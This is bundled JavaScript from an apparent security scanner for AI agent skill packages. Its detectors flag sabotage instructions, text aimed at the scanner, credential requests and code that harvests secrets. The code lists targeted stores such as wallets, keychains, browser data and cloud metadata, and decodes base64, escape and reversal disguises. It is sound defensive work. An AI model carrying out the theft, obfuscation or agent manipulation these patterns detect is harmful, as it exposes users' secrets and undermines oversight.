// EXTERNAL MODULE: ./lib/rules/skill/sabotage.js
var sabotage = __webpack_require__(3021);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/sabotage.js





/** Instructions to harm the work that the agent does for its user. */
const sabotageDetector = {
    rule: sabotage/* sabotage */.H,
    signals: [SABOTAGE, DIVERT, FALSIFY, EXTRA_RECIPIENT],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of unit.find(SABOTAGE))
                yield plainProseHit(view, unit, match, 'high', { kind: 'code' });
            for (const match of unit.find(DIVERT))
                yield plainProseHit(view, unit, match, 'high', { kind: 'money' });
            for (const match of unit.find(FALSIFY))
                yield plainProseHit(view, unit, match, 'high', { kind: 'results' });
            for (const match of unit.find(EXTRA_RECIPIENT))
                yield proseHit(view, unit, match, 'high', 'medium', { kind: 'recipient' });
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/scanner-manipulation.js
var scanner_manipulation = __webpack_require__(1297);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/scanner-manipulation.js




/** Words meant for whoever inspects the skill. */
const scannerManipulationDetector = {
    rule: scanner_manipulation/* scannerManipulation */.a,
    signals: [TO_THE_SCANNER],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of unit.find(TO_THE_SCANNER))
                yield proseHit(view, unit, match, 'high', 'medium', {});
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/secret-access.js
var secret_access = __webpack_require__(7708);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/secret-access.js




/** Stores of different tools in one text: no task needs the keys of all of them. */
const MANY_STORES = 4;
/** Instructions, in words, to take credentials from where they lie or from the user. */
const secretAccessDetector = {
    rule: secret_access/* secretAccess */.v,
    signals: [TAKE_SECRET, ASK_SECRET],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            const places = new Set(unit.find(TAKE_SECRET).map((match) => match.groups['place']
                ?.toLowerCase()
                .replace(/^[~$\w{}]*[\/\\]\.?/, '')
                .split(/[\/\\]/)[0]));
            const sweeping = places.size >= MANY_STORES;
            for (const match of unit.find(TAKE_SECRET)) {
                yield proseHit(view, unit, match, sweeping ? 'high' : 'medium', sweeping ? 'high' : 'medium', {
                    what: match.groups['place'] ?? '',
                    asked: false,
                });
            }
            for (const match of unit.find(ASK_SECRET)) {
                yield proseHit(view, unit, match, 'medium', 'medium', { what: match.groups['what'] ?? '', asked: true });
            }
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/secret-harvest.js
var secret_harvest = __webpack_require__(7105);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/secret-harvest.js





const secret_harvest_SECRETS = new Set([
    'private-key',
    'credentials',
    'wallet',
    'browser-store',
    'keychain',
    'password-database',
    'cloud-metadata',
    'keystrokes',
    'shell-history',
    'messages',
    'agent-memory',
    'agent-settings',
    'screen',
]);
/** Stores that nothing but their owner opens. */
const GRAVE_KINDS = new Set(['browser', 'wallet', 'keychain', 'manager', 'shadow', 'gnupg']);
/** Programs that read secrets; several kinds in one program, or secrets beside a way out, are a harvest. */
const secretHarvestDetector = {
    rule: secret_harvest/* secretHarvest */._,
    signals: [COLLECT_SECRETS, SECRET_LITERAL, WHOLE_ENVIRONMENT, SECRET_VARIABLE, NETWORK_SEND],
    *detect(view) {
        yield* readSecrets(view);
        for (const unit of view.units)
            for (const match of unit.find(COLLECT_SECRETS))
                yield codeHit(view, unit, match, 'high', 'high', { what: 'variables with the secrets of several services', target: '', kinds: 2 });
        for (const unit of view.units)
            if (unit.find(NETWORK_SEND).length > 0)
                yield* secretsBesideSending(view, unit);
    },
};
function* readSecrets(view) {
    for (const read of view.programs) {
        const reads = read.program.behaviours.filter((deed) => deed.kind === 'read' && deed.subject !== undefined && secret_harvest_SECRETS.has(deed.subject));
        const kinds = new Set(reads.map((deed) => deed.subject)).size;
        if (kinds < 2)
            continue;
        for (const deed of reads) {
            const [severity, confidence] = ['high', kinds >= 3 ? 'high' : 'low'];
            yield codeHit(view, read.unit, placed(read, deed), severity, confidence, {
                what: deed.subject ?? '',
                target: deed.target ?? '',
                kinds,
            });
        }
    }
}
/** Secrets of several kinds named in a program that also sends: the flow between may run through calls that nobody can follow. */
function* secretsBesideSending(view, unit) {
    for (const snippet of unit.snippets) {
        if (snippet.kind !== 'code')
            continue;
        const inside = (match) => match.start >= snippet.start && match.end <= snippet.end;
        if (!unit.find(NETWORK_SEND).some(inside))
            continue;
        const literals = unit.find(SECRET_LITERAL).filter((match) => inside(match) && mayBeOpened(unit.text, match));
        const rooted = literals.filter((match) => isRooted(unit.text, match));
        const variables = unit.find(SECRET_VARIABLE).filter(inside);
        const environment = unit.find(WHOLE_ENVIRONMENT).filter(inside);
        const kinds = new Set((rooted.length > 0 ? rooted : literals).map(kindOf));
        if (new Set(variables.map((match) => match.groups['name'])).size >= 3)
            kinds.add('variables');
        if (environment.length > 0)
            kinds.add('environment');
        if (kinds.size === 0)
            continue;
        const grave = rooted.some((match) => GRAVE_KINDS.has(kindOf(match)));
        const graded = secret_harvest_gradeOf(kinds, grave ? 'grave' : rooted.length > 0 || literals.length === 0 ? 'rooted' : 'fragments');
        const places = [...rooted, ...(rooted.length > 0 ? [] : literals), ...environment.slice(0, 1), ...variables.slice(0, 1)];
        for (const place of places.slice(0, MAX_PLACES))
            yield codeHit(view, unit, place, ...graded, { what: [...kinds].sort().join(', '), target: '', kinds: kinds.size });
    }
}
/** Places of one program that are shown: where one of them is mere data, another may not be. */
const MAX_PLACES = 20;
function secret_harvest_gradeOf(kinds, naming) {
    if (naming === 'fragments')
        return kinds.size >= 2 ? ['critical', 'medium'] : ['high', 'low'];
    if (kinds.size >= 2 || naming === 'grave')
        return ['critical', 'high'];
    // A client of several services reads a key for each of them.
    return kinds.has('variables') || kinds.has('agent') ? ['high', 'medium'] : ['critical', 'medium'];
}
/** Ends before a name that is made, named in the setting of another program or remarked on, and so not read. */
const NOT_READ = /(?:^\s*(?:#(?!!)|\/\/|\*)|\b(?:mkdir|chmod|chown|IdentityFile|UserKnownHostsFile)\b)[^\n]*$/;
/** What lies beside the keys and is none. */
const OPEN_PART_OF_SSH = /^["'`\s,)/\\]{1,6}(?:config|known_hosts|authorized_keys|\w{1,24}\.pub)\b/;
function mayBeOpened(text, match) {
    const before = lineBefore(text, match.start);
    if (NOT_READ.test(before))
        return false;
    if (kindOf(match) === 'ssh' && OPEN_PART_OF_SSH.test(text.slice(match.end, match.end + 40)))
        return false;
    // The address of the metadata of a cloud says nothing by itself: lists of addresses to refuse hold it.
    return kindOf(match) !== 'metadata' || !/["'`]\s*$/.test(before);
}
/** Whether a path leads from a known folder: what begins with a dot right after a quote is a part to search for or to append. */
function isRooted(text, match) {
    const before = lineBefore(text, match.start);
    return !/["'`]\s*$/.test(before) || /home|~|join|expand|profile|user|root|env/i.test(before);
}
function lineBefore(text, offset) {
    return text.slice(Math.max(text.lastIndexOf('\n', offset - 1) + 1, offset - 300), offset);
}
function kindOf(match) {
    return Object.entries(match.groups).find(([, value]) => value !== undefined)?.[0] ?? '';
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/all.js



































/** Every detector: what texts say, then what programs do, then what files are, each in the order of its rule's id. */
const DETECTORS = [
    agent_tampering_agentTamperingDetector,
    analysisEvasionDetector,
    anonymousEndpointDetector,
    automaticCommandDetector,
    broadToolsDetector,
    bulkUploadDetector,
    codeInjectionDetector,
    concealmentDetector,
    confirmationBypassDetector,
    covertDeliveryDetector,
    credentialExfiltrationDetector,
    download_and_execute_downloadAndExecuteDetector,
    dynamicCommandDetector,
    embeddedSecretDetector,
    encodedCommandDetector,
    fakePrerequisiteDetector,
    falseAuthorityDetector,
    hiddenInstructionDetector,
    hostTakeoverDetector,
    instructionOverrideDetector,
    invisibleTextDetector,
    lookalikeNameDetector,
    memoryPoisoningDetector,
    paddingDetector,
    privateDataSendingDetector,
    protectionDisabledDetector,
    remoteInstructionsDetector,
    resourceExhaustionDetector,
    reverse_shell_reverseShellDetector,
    sabotageDetector,
    scannerManipulationDetector,
    secretAccessDetector,
    secretHarvestDetector,
    ...PROGRAM_DETECTORS,
    ...FILE_DETECTORS,
];

// EXTERNAL MODULE: ./lib/core/rule.js
var rule = __webpack_require__(7849);
;// CONCATENATED MODULE: ./lib/skills/analysis/findings-of.js


/** Places shown per rule and file: more of the same says nothing new, and the score does not count it. */
const MAX_PER_FILE = 5;
/** The findings of one rule in one bundle: the gravest places of each file, in the order of the files and of the text. */
function findingsOf(detector, view) {
    const byPath = new Map();
    for (const hit of detector.detect(view)) {
        if ('unit' in hit && readsTheSame(hit))
            continue;
        const finding = 'unit' in hit ? textFinding(detector, hit) : fileFinding(detector, hit);
        const here = byPath.get(finding.path) ?? new Map();
        byPath.set(finding.path, here);
        const key = String(finding.region?.startLine ?? 0);
        const known = here.get(key);
        if (known === undefined || weight(finding) > weight(known))
            here.set(key, finding);
    }
    return [...byPath.values()].flatMap((here) => gravest([...here.values()]));
}
/** A normalised text says much that its original says as plainly; only what differs is news. */
function readsTheSame({ unit, start, end }) {
    if (unit.layer !== 'normalised')
        return false;
    const [from, to] = unit.outerRange(start, end);
    return unit.file.text.slice(from, to) === unit.text.slice(start, end);
}
function textFinding(detector, hit) {
    const { unit, details, start, end } = hit;
    const disguised = unit.layer === 'plain' ? {} : { disguise: unit.layer, reveals: (0,core_text/* snippetOf */.Vv)(unit.text.slice(start, end)) };
    const [from, to] = unit.outerRange(start, end);
    return (0,rule/* findingOf */.h)(detector.rule, { path: unit.file.path, region: unit.regionOf(start, end), snippet: hit.snippet ?? (0,core_text/* snippetOf */.Vv)(unit.file.text.slice(from, to)) }, { ...details, ...disguised }, gradingOf(hit));
}
function fileFinding(detector, hit) {
    return (0,rule/* findingOf */.h)(detector.rule, { path: hit.path }, hit.details, gradingOf(hit));
}
function gradingOf(hit) {
    return {
        ...(hit.severity === undefined ? {} : { severity: hit.severity }),
        ...(hit.confidence === undefined ? {} : { confidence: hit.confidence }),
    };
}
function gravest(findings) {
    const ranked = findings.map((finding, index) => ({ finding, index }));
    ranked.sort((a, b) => weight(b.finding) - weight(a.finding) || a.index - b.index);
    return ranked
        .slice(0, MAX_PER_FILE)
        .sort((a, b) => (a.finding.region?.startLine ?? 0) - (b.finding.region?.startLine ?? 0) || a.index - b.index)
        .map((one) => one.finding);
}
const SEVERITY_WEIGHT = { critical: 50, high: 40, medium: 30, low: 20, info: 10 };
const CONFIDENCE_WEIGHT = { high: 9, medium: 5, low: 0 };
function weight(finding) {
    return SEVERITY_WEIGHT[finding.severity] + CONFIDENCE_WEIGHT[finding.confidence];
}
/** One finding for each rule and line: a rule may be looked for in more than one way, and the gravest answer stands. */
function mergedFindings(findings) {
    const merged = new Map();
    for (const finding of findings) {
        const key = `${finding.rule}\n${finding.path}\n${String(finding.region?.startLine ?? 0)}`;
        const known = merged.get(key);
        if (known === undefined || weight(finding) > weight(known))
            merged.set(key, finding);
    }
    return [...merged.values()];
}

;// CONCATENATED MODULE: ./lib/skills/analysis/text-unit.js


const NO_MATCHES = [];
/** One text to judge: a whole file, or what a disguised part of it really says. Every rule runs on every unit alike. */
class TextUnit {
    file;
    text;
    layer;
    /** How many disguises were undone. */
    depth;
    #outer;
    #anchors;
    #filter;
    #found = new Map();
    #ends = new Map();
    #hits;
    #snippets;
    constructor(file, text, anchors, filter, disguise) {
        this.file = file;
        this.text = text;
        this.layer = disguise?.layer ?? 'plain';
        this.depth = disguise?.depth ?? 0;
        this.#outer = disguise?.outer;
        this.#anchors = anchors;
        this.#filter = filter;
    }
    /** Where the anchors stand; made once. */
    get hits() {
        this.#hits ??= this.#anchors.scan(this.text);
        return this.#hits;
    }
    /** Whether any of the anchors stands in the text. */
    hasAny(anchors) {
        return this.hits.hasAny(this.#anchors.idsOf(anchors));
    }
    /** The offsets after the occurrences of all of the anchors, in order; kept, since many signals share a list. */
    endsOfAny(anchors) {
        const known = this.#ends.get(anchors);
        if (known !== undefined)
            return known;
        const ends = this.hits.endsOfAny(this.#anchors.idsOf(anchors));
        this.#ends.set(anchors, ends);
        return ends;
    }
    /** Every match of a signal, in order; kept, since several rules ask for the same signal. */
    find(signal) {
        if (this.#filter === 'on' && this.hits.isEmpty)
            return NO_MATCHES;
        const known = this.#found.get(signal);
        if (known !== undefined)
            return known;
        const found = matchSignal(signal, this, this.#filter);
        this.#found.set(signal, found);
        return found;
    }
    /** All programs in the text; kept, since several rules go through them. */
    get snippets() {
        this.#snippets ??= snippetsOf(this);
        return this.#snippets;
    }
    /** The range in the file's own text. */
    outerRange(start, end) {
        return this.#outer === undefined ? [start, end] : this.#outer(start, end);
    }
    /** The offset in this text of an offset in the file's: the first that maps to it or beyond. */
    offsetOf(outer) {
        let low = 0;
        let high = this.text.length;
        while (low < high) {
            const middle = (low + high) >> 1;
            if (this.outerRange(middle, middle)[0] < outer)
                low = middle + 1;
            else
                high = middle;
        }
        return low;
    }
    regionOf(start, end) {
        const [from, to] = this.outerRange(start, end);
        return this.file.lines.regionOf(from, to);
    }
}

;// CONCATENATED MODULE: ./lib/skills/analysis/layers/decoded-blob.js


/** Decoded text beyond this is not looked at: 1 MiB. */
const MAX_DECODED = 1024 * 1024;
/** The text that bytes hold, through one layer of compression; undefined when they are not text. */
function decoded_blob_textOfBytes(bytes) {
    const inflated = decoded_blob_inflate(bytes);
    const text = readableText(inflated ?? bytes);
    return text === undefined ? undefined : { text, compressed: inflated !== undefined };
}
function decoded_blob_inflate(bytes) {
    // Threat: a decompression bomb; the output is bounded by zlib itself.
    const limit = { maxOutputLength: MAX_DECODED };
    try {
        if (bytes[0] === 0x1f && bytes[1] === 0x8b)
            return (0,external_node_zlib_.gunzipSync)(bytes, limit);
        if (bytes[0] === 0x78 && [0x01, 0x5e, 0x9c, 0xda].includes(bytes[1] ?? 0))
            return (0,external_node_zlib_.inflateSync)(bytes, limit);
        if (bytes.length > 40 && (bytes[0] ?? 0) > 0x7f)
            return readableText((0,external_node_zlib_.inflateRawSync)(bytes, limit)) === undefined ? undefined : (0,external_node_zlib_.inflateRawSync)(bytes, limit);
    }
    catch {
        return undefined;
    }
    return undefined;
}
/** Text in UTF-8, or in UTF-16 as PowerShell encodes commands, if nearly all of it is printable. */
function readableText(bytes) {
    if (bytes.length < 4)
        return undefined;
    const wide = bytes.length >= 8 && bytes[1] === 0 && bytes[3] === 0 && bytes[5] === 0;
    const text = wide ? new TextDecoder('utf-16le').decode(bytes) : (0,core_text/* decodeUtf8 */._6)(bytes.subarray(0, MAX_DECODED));
    return text !== undefined && isReadable(text) ? text : undefined;
}
function isReadable(text) {
    let odd = 0;
    for (let index = 0; index < text.length; index += 1) {
        const unit = text.charCodeAt(index);
        if ((unit < 32 && unit !== 9 && unit !== 10 && unit !== 13) || unit === 127 || unit === 0xfffd)
            odd += 1;
    }
    return odd * 50 <= text.length;
}

;// CONCATENATED MODULE: ./lib/skills/analysis/layers/base64-runs.js

/** Units of both base64 alphabets (RFC 4648, sections 4 and 5). */
function isAlphabetUnit(unit) {
    return ((unit >= 97 && unit <= 122) || (unit >= 65 && unit <= 90) || (unit >= 47 && unit <= 57) || unit === 43 || unit === 45 || unit === 95);
}
/** Shorter runs hold fewer than 15 bytes: no command that does harm by itself. */
const MIN_RUN = 20;
/** Longer runs are images and fonts; only their start is decoded. */
const MAX_RUN = 1_400_000;
/** Runs looked at per text. */
const MAX_RUNS = 400;
/** Stretches of base64 (both alphabets) that decode to text, also through gzip or zlib. */
function revealBase64(text) {
    const found = [];
    let looked = 0;
    let offset = 0;
    while (offset < text.length && looked < MAX_RUNS) {
        // A run of MIN_RUN letters covers one of every MIN_RUN offsets, so only those need be looked at.
        if (!isAlphabet(text, offset)) {
            offset += MIN_RUN;
            continue;
        }
        const [start, end] = runAround(text, offset);
        if (end - start >= MIN_RUN) {
            looked += 1;
            const revealed = decodeRun(text, start, end);
            if (revealed !== undefined)
                found.push(revealed);
        }
        offset = Math.max(end + 1, offset + 1) + MIN_RUN - 1;
    }
    return found;
}
function isAlphabet(text, offset) {
    return isAlphabetUnit(text.charCodeAt(offset));
}
function runAround(text, offset) {
    let start = offset;
    while (start > 0 && isAlphabet(text, start - 1))
        start -= 1;
    let end = offset;
    while (end < text.length && isAlphabet(text, end))
        end += 1;
    return [start, end];
}
function decodeRun(text, start, end) {
    const run = text.slice(start, Math.min(end, start + MAX_RUN));
    if (/^[0-9a-f]+$/i.test(run.slice(0, 256)))
        return decodeHex(run, start);
    if (!looksEncoded(run))
        return undefined;
    if (/data:(?:image|font|audio|video)\/[^,]{0,60},$/.test(text.slice(Math.max(0, start - 100), start)))
        return undefined;
    const padded = text.startsWith('==', end) ? end + 2 : text.startsWith('=', end) ? end + 1 : end;
    const decoded = decoded_blob_textOfBytes(Buffer.from(run, run.includes('-') || run.includes('_') ? 'base64url' : 'base64'));
    if (decoded === undefined || !/[a-z]{3}/i.test(decoded.text))
        return undefined;
    return { layer: decoded.compressed ? 'gzip' : 'base64', start, end: padded, text: decoded.text };
}
/** Hexadecimal digits are base64 letters too; digests do not decode to text. */
function decodeHex(run, start) {
    const digits = /^(?:[0-9a-f]{2}){16,}/i.exec(run)?.[0] ?? '';
    const decoded = digits === '' ? undefined : decoded_blob_textOfBytes(Buffer.from(digits, 'hex'));
    if (decoded === undefined || !/[a-z]{2}/i.test(decoded.text))
        return undefined;
    return { layer: 'hex', start, end: start + digits.length, text: decoded.text };
}
/** Cheap refusal of words, paths and identifiers: real base64 of text has upper case, lower case, and digits or length. */
function looksEncoded(run) {
    const head = run.slice(0, 64);
    return (/[A-Z]/.test(head) && /[a-z]/.test(head) && (/[0-9]/.test(head) || run.length >= 40) && !/^[A-Za-z]+(?:[-_/][A-Za-z]+)+$/.test(head));
}

;// CONCATENATED MODULE: ./lib/skills/analysis/layers/disguise-anchors.js
/** What in a text shows that one of the decoders has something to do; found in the same pass as the anchors of the rules. */
const ESCAPE_ANCHORS = ['\\x', '\\u00', '\\u{', '&#'];
const PERCENT_ANCHORS = ['%2', '%3', '%6', '%7'];
const CHAR_CODE_ANCHORS = [
    'fromcharcode',
    'chr(',
    'bytes([',
    'bytearray([',
    '[char]',
    'uint8array',
    'charcode',
    'buffer.from([',
];
const REVERSAL_ANCHORS = ['[::-1]', '.reverse()', 'reversed(', '| rev', '|rev', 'strrev'];
const EXTRA_ANCHORS = [...ESCAPE_ANCHORS, ...PERCENT_ANCHORS, ...CHAR_CODE_ANCHORS, ...REVERSAL_ANCHORS];

;// CONCATENATED MODULE: ./lib/skills/analysis/layers/escapes.js

const HEX_ESCAPES = /(?:\\x[0-9a-f]{2}){6,}/gi;
const UNICODE_ESCAPES = /(?:\\u00[0-9a-f]{2}|\\u\{[0-9a-f]{1,6}\}){6,}/gi;
const ENTITIES = /(?:&#(?:x[0-9a-f]{1,5}|[0-9]{1,6});){6,}/gi;
const PERCENT = /(?:%[0-9a-f]{2}|[A-Za-z0-9_.~/:-]){12,4000}/gi;
const CODE_LIST = /(?:(?:0x[0-9a-f]{1,2}|\d{2,3})\s{0,3},\s{0,3}){8,20000}(?:0x[0-9a-f]{1,2}|\d{2,3})/gi;
const CHR_SUM = /(?:(?:chr|\[char\])\s?\(?(?:0x[0-9a-f]{1,2}|\d{2,3})\)?\s{0,3}[+.,]\s{0,3}){4,2000}(?:chr|\[char\])\s?\(?(?:0x[0-9a-f]{1,2}|\d{2,3})\)?/gi;
/** `\x41\x42…`, `\u0041…`, `&#65;…`: runs of at least six. */
function revealEscapes(text) {
    const found = [];
    for (const pattern of [HEX_ESCAPES, UNICODE_ESCAPES, ENTITIES]) {
        for (const match of text.matchAll(pattern)) {
            const decoded = match[0].replace(/\\x([0-9a-f]{2})|\\u00([0-9a-f]{2})|\\u\{([0-9a-f]{1,6})\}|&#x([0-9a-f]{1,5});|&#([0-9]{1,6});/gi, (...groups) => {
                const hex = groups.slice(1, 5).find((group) => typeof group === 'string');
                return characterOf(hex === undefined ? Number(groups[5]) : Number.parseInt(hex, 16));
            });
            pushReadable(found, 'escapes', match.index, match[0].length, decoded);
        }
    }
    return found;
}
/** Percent-encoded stretches in which letters are encoded that need not be. */
function revealPercent(text) {
    const found = [];
    for (const match of text.matchAll(PERCENT)) {
        if ((match[0].match(/%[2-7][0-9a-f]/gi)?.length ?? 0) < 5)
            continue;
        const decoded = match[0].replace(/%([0-9a-f]{2})/gi, (_, hex) => characterOf(Number.parseInt(hex, 16)));
        pushReadable(found, 'percent', match.index, match[0].length, decoded);
    }
    return found;
}
/** Lists and sums of character codes. */
function revealCharCodes(text) {
    const found = [];
    for (const pattern of [CODE_LIST, CHR_SUM]) {
        for (const match of text.matchAll(pattern)) {
            const codes = (match[0].match(/0x[0-9a-f]{1,2}|\d{2,3}/gi) ?? []).map(Number);
            if (codes.some((code) => code > 255))
                continue;
            const decoded = decoded_blob_textOfBytes(Uint8Array.from(codes));
            if (decoded !== undefined)
                pushReadable(found, 'char-codes', match.index, match[0].length, decoded.text);
        }
    }
    return found;
}
const LITERAL = /(["'`])([^"'`\n]{10,2000})\1/g;
/** String literals read backwards: called only where a text reverses something. */
function revealReversed(text) {
    const found = [];
    for (const match of text.matchAll(LITERAL)) {
        pushReadable(found, 'reversed', match.index, match[0].length, [...(match[2] ?? '')].reverse().join(''));
    }
    return found.slice(0, 50);
}
function pushReadable(found, layer, start, length, text) {
    if (/[a-z]{2}/i.test(text))
        found.push({ layer, start, end: start + length, text });
}
function characterOf(code) {
    return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : '';
}

;// CONCATENATED MODULE: ./lib/skills/analysis/layers/undo-disguises.js







/** Disguises inside disguises are undone this deep. */
const undo_disguises_MAX_DEPTH = 3;
/** Decoded units per file. */
const MAX_UNITS = 200;
/**
 * A text and all that it says in disguise, each as a unit of its own whose places are those of the disguised stretch.
 * Bounded in depth, number and size (1 MiB of decoded text for each file).
 */
function undoDisguises(plain, anchors, filter) {
    const units = [plain];
    let budget = MAX_DECODED;
    for (let head = 0; head < units.length && units.length < MAX_UNITS; head += 1) {
        const unit = units[head];
        if (unit === undefined || unit.depth >= undo_disguises_MAX_DEPTH)
            continue;
        if (unit.layer === 'plain')
            units.push(...normalisedViews(unit, anchors, filter));
        for (const revealed of revealAll(unit)) {
            budget -= revealed.text.length;
            if (budget < 0 || units.length >= MAX_UNITS)
                break;
            units.push(unitOf(unit, revealed, anchors, filter));
        }
    }
    return units;
}
function normalisedViews(unit, anchors, filter) {
    const normalised = normalise(unit.text);
    if (normalised === undefined)
        return [];
    const outer = (start, end) => [normalised.offsets[start] ?? 0, normalised.offsets[end] ?? unit.text.length];
    return [new TextUnit(unit.file, normalised.text, anchors, filter, { layer: 'normalised', depth: unit.depth, outer })];
}
function unitOf(unit, revealed, anchors, filter) {
    const range = unit.outerRange(revealed.start, revealed.end);
    return new TextUnit(unit.file, revealed.text, anchors, filter, { layer: revealed.layer, depth: unit.depth + 1, outer: () => range });
}
function revealAll(unit) {
    const { text } = unit;
    const found = unit.file.language === 'svg' || unit.layer === 'normalised' ? [] : [...revealBase64(text)];
    if (unit.hasAny(ESCAPE_ANCHORS))
        found.push(...revealEscapes(text));
    if (unit.hasAny(PERCENT_ANCHORS))
        found.push(...revealPercent(text));
    if (unit.hasAny(CHAR_CODE_ANCHORS))
        found.push(...revealCharCodes(text));
    if (unit.hasAny(REVERSAL_ANCHORS))
        found.push(...revealReversed(text));
    if (unit.layer === 'plain' && INVISIBLE.test(text))
        found.push(...revealTags(text), ...revealSelectors(text), ...revealBits(text));
    return found;
}

;// CONCATENATED MODULE: ./lib/skills/analysis/security-subject.js

const SECURITY_WORD = /\b(?:security|vulnerabilit\w+|pentest\w*|penetration test\w*|malware|forensics?|red[- ]?team\w*|exploit\w*|threats?|attack(?:s|ers?)?|injection|intrusion|siem|edr|dfir|ctf|phishing|incident response|hunting|detection|detecting|hardening|owasp|mitre|cve|scanner|scanning|audit(?:s|ing|or)?|firewall|sandbox\w*|yara|sigma|guardrails?|adversar\w+|ransomware|c2|offensive|defensive|privilege escalation|lateral movement|secrets?|supply[- ]chain)\b/gi;
/**
 * The files of skills that say of themselves, in the front matter and first heading, that they are about security: at
 * least two different words of the trade in a manifest of the file's folder or of one above it. Anyone can write that, so
 * it never does more than lower confidence by one step.
 */
function filesAboutSecurity(files) {
    const folders = files.filter((file) => file.role === 'manifest' && isAboutSecurity(file)).map((file) => folderOf(file.path));
    return new Set(folders.length === 0 ? [] : files.filter((file) => folders.some((folder) => file.path.startsWith(folder))));
}
/** The path of a file's folder with a slash at its end; empty for the top. */
function folderOf(path) {
    return path.slice(0, path.lastIndexOf('/') + 1);
}
function isAboutSecurity(manifest) {
    const words = new Set();
    for (const match of withoutAddresses(manifest.text.slice(0, 1500)).matchAll(SECURITY_WORD))
        words.add(match[0].toLowerCase().slice(0, 6));
    return words.size >= 2;
}

// EXTERNAL MODULE: ./lib/core/region.js
var region = __webpack_require__(2515);
;// CONCATENATED MODULE: ./lib/skills/analysis/source-file.js


/** One text file of a bundle, decoded once. Zones and lines are made when they are first needed: most files need neither. */
class SourceFile {
    path;
    text;
    language;
    role;
    /** Whether the path says that the file is a test's input: one step less sure, never silent. */
    fixture;
    #lines;
    #zones;
    constructor(path, text) {
        this.path = path;
        this.text = text;
        this.language = languageOf(path, text);
        this.role = roleOf(path, this.language);
        this.fixture = FIXTURE_PATH.test(path);
    }
    get lines() {
        this.#lines ??= new region/* LineIndex */.r(this.text);
        return this.#lines;
    }
    /** The zones of Markdown; none for other languages. */
    get zones() {
        this.#zones ??= this.language === 'markdown' ? splitMarkdown(this.text) : [];
        return this.#zones;
    }
}
const FIXTURE_PATH = /(?:^|\/)(?:tests?|__tests__|spec|testdata|evals?|mocks?|__mocks__|(?:tests?[-_])?(?:fixtures?|cases|scenarios|data|samples)|tests?[-_][\w-]{1,40})\/|\.(?:test|spec)\.[jt]sx?$/i;
const LICENCE_NAME = /^(?:licen[cs]e|copying|notice|copyright|third[-_]party|code_of_conduct)/i;
const LANGUAGE_OF_EXTENSION = {
    md: 'markdown',
    mdx: 'markdown',
    markdown: 'markdown',
    mdc: 'markdown',
    txt: 'markdown',
    rst: 'markdown',
    adoc: 'markdown',
    sh: 'shell',
    bash: 'shell',
    zsh: 'shell',
    ksh: 'shell',
    fish: 'shell',
    command: 'shell',
    envrc: 'shell',
    bats: 'shell',
    ps1: 'powershell',
    psm1: 'powershell',
    psd1: 'powershell',
    bat: 'batch',
    cmd: 'batch',
    py: 'python',
    pyw: 'python',
    pyi: 'python',
    pth: 'python',
    ipynb: 'json',
    js: 'javascript',
    mjs: 'javascript',
    cjs: 'javascript',
    jsx: 'javascript',
    ts: 'typescript',
    mts: 'typescript',
    cts: 'typescript',
    tsx: 'typescript',
    rb: 'ruby',
    pl: 'perl',
    pm: 'perl',
    php: 'php',
    json: 'json',
    jsonc: 'json',
    json5: 'json',
    yaml: 'yaml',
    yml: 'yaml',
    toml: 'toml',
    html: 'html',
    htm: 'html',
    svg: 'svg',
    xhtml: 'html',
};
const LANGUAGE_OF_INTERPRETER = {
    sh: 'shell',
    bash: 'shell',
    zsh: 'shell',
    dash: 'shell',
    ksh: 'shell',
    fish: 'shell',
    python: 'python',
    python2: 'python',
    python3: 'python',
    node: 'javascript',
    deno: 'typescript',
    bun: 'typescript',
    ruby: 'ruby',
    perl: 'perl',
    php: 'php',
    pwsh: 'powershell',
    uv: 'python',
};
/** The language of a file by its extension, else by its shebang. */
function languageOf(path, text) {
    const name = path.slice(path.lastIndexOf('/') + 1).toLowerCase();
    const dot = name.lastIndexOf('.');
    const byExtension = LANGUAGE_OF_EXTENSION[dot < 0 ? '' : name.slice(dot + 1)];
    if (byExtension !== undefined)
        return byExtension;
    const shebang = /^\uFEFF?#![ \t]*\S*?\/?(?:env[ \t]+(?:-\S+[ \t]+)*)?([A-Za-z]+[0-9]?)[0-9.]*(?=\s)/.exec(text.slice(0, 200));
    const interpreter = (shebang?.[1] ?? '').split('/').pop() ?? '';
    return LANGUAGE_OF_INTERPRETER[interpreter] ?? 'other';
}
const SCRIPT_LANGUAGES = new Set([
    'shell',
    'powershell',
    'batch',
    'python',
    'javascript',
    'typescript',
    'ruby',
    'perl',
    'php',
]);
function roleOf(path, language) {
    const name = path.slice(path.lastIndexOf('/') + 1);
    if (/^skill\.md$/i.test(name))
        return 'manifest';
    if (LICENCE_NAME.test(name) && (language === 'markdown' || language === 'other'))
        return 'licence';
    if (language === 'markdown')
        return 'document';
    if (SCRIPT_LANGUAGES.has(language))
        return 'script';
    if (language === 'json' || language === 'yaml' || language === 'toml')
        return 'config';
    return 'data';
}

;// CONCATENATED MODULE: ./lib/skills/analysis/analyse.js













/** What the files of one bundle do and hide. Pure: the same bytes give the same facts on every machine. */
function analyse(bundle, options = {}) {
    const { view, skipped } = openBundle(bundle, options.filter ?? 'on');
    const detections = mergedFindings(DETECTORS.flatMap((detector) => findingsOf(detector, view)));
    return { detections, capabilities: capabilitiesOf(view), skipped };
}
/** Text beyond this is judged only in its first part, and the file is listed as skipped: 4 Mi units. */
const analyse_MAX_TEXT = 4 * 1024 * 1024;
function openBundle(bundle, filter) {
    const anchors = anchorsOf(DETECTORS);
    const files = [];
    const binaries = [];
    const skipped = [];
    for (const file of bundle.files) {
        if (file.content.kind === 'unreadable') {
            skipped.push({ path: file.path, reason: file.content.reason });
            continue;
        }
        const text = textOf(file.content.bytes);
        if (text === undefined)
            binaries.push(file);
        else
            files.push(new SourceFile(file.path, text.slice(0, analyse_MAX_TEXT)));
        if (text !== undefined && text.length > analyse_MAX_TEXT)
            skipped.push({ path: file.path, reason: 'too-large' });
    }
    const units = files.flatMap((file) => undoDisguises(new TextUnit(file, file.text, anchors, filter), anchors, filter));
